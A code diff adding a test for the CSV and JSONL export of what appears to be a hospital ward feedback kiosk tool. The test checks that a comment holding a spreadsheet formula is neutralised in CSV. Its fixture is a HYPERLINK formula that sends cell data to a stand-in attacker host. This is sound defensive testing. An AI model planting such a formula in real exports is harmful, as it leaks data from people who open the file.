@@ -73,6 +73,24 @@ def test_export_csv_and_jsonl_hold_every_rating_with_the_contract_fields(cli_dat
     assert rows[0]["comment"] == 'Tea, "hot"\nplease'
 
 
+def test_export_csv_cannot_run_a_formula_and_jsonl_keeps_the_comment_as_stored(cli_data_dir):
+    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    cli_data_dir("ward", "add", "7B", "--name", "Ward 7B")
+    journal = RatingJournal(cli_data_dir.data_dir)
+    fields = {"id": "00000000-0000-4000-8000-000000000001", "score": "poor", "tapped_at": "2026-11-20T09:00:00.000Z",
+              "comment": hyperlink, "lang": None, "follow_up": {"location": "@bed 4"}}
+    journal.add(dict(fields, ward="7B", kiosk_id="k-1", channel="kiosk", received_at=fields["tapped_at"], misuse=False), fields)
+    journal.close()
+    out = cli_data_dir("export", "--ward", "7B").output
+    assert ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"," in out  # quoted, quotes doubled
+    [row] = list(csv.DictReader(io.StringIO(out)))
+    assert row["comment"] == "'" + hyperlink
+    assert row["follow_up"] == '{"location": "@bed 4"}'  # JSON starts with a brace: nothing to run
+    assert row["score"] == "poor" and row["misuse"] == "False"
+    [line] = cli_data_dir("export", "--ward", "7B", "--format", "jsonl").output.splitlines()
+    assert json.loads(line)["comment"] == hyperlink
+
+
 @pytest.mark.parametrize(
     "argv, mode",
     [
